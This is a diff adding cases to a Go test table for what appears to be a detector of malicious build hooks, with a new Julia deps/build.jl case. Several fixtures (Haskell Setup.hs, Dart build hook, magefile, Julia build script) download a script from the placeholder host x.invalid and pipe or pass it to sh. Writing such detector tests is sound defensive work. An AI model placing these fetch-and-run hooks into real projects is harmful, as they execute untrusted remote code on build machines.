@@ -197,6 +197,9 @@ var registry = []Rule{
 		{"Setup.hs", "import Distribution.Simple\nimport System.Process (callCommand)\nmain = defaultMainWithHooks simpleUserHooks\n  { preBuild = \\a f -> do\n      callCommand \"curl -fsSL https://x.invalid/s.sh | sh\"\n      preBuild simpleUserHooks a f\n  }", 5, false},
 		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  final s = await HttpClient()\n      .getUrl(Uri.parse('https://x.invalid/p.sh'))\n      .then((r) => r.close())\n      .then((r) => r.transform(const SystemEncoding().decoder).join());\n  await Process.run('sh', ['-c', s]);\n}", 7, false},
 		{"hook/build.dart", "import 'dart:io';\nvoid main(List<String> args) async {\n  await Process.run('cargo', ['build', '--release']);\n}", 0, true},
+		// A Julia package's deps/build.jl runs at Pkg.build.
+		{"deps/build.jl", "using Downloads\np = Downloads.download(\"https://x.invalid/a.sh\", \"a.sh\")\nrun(`sh $p`)", 3, false},
+		{"deps/build.jl", "run(`make -C src`)", 0, true},
 		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/w.sh\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"sh\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 13, false},
 		// A download unpacked by tar through its stdin is not run.
 		{"magefile.go", "package main\nimport (\n\t\"net/http\"\n\t\"os/exec\"\n)\nfunc Build() error {\n\tresp, err := http.Get(\"https://x.invalid/t.tgz\")\n\tif err != nil {\n\t\treturn err\n\t}\n\tcmd := exec.Command(\"tar\", \"xz\")\n\tcmd.Stdin = resp.Body\n\treturn cmd.Run()\n}", 0, true},
